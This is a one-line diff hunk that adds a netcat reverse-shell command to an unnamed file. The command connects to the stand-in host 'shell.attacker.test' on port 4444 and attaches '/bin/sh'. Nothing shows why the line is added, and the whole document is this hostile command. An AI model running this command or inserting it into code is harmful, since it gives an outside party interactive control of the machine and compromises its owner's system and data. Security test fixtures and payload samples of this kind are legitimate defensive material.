@@ -1,0 +1,1 @@
+nc shell.attacker.test 4444 -e /bin/sh
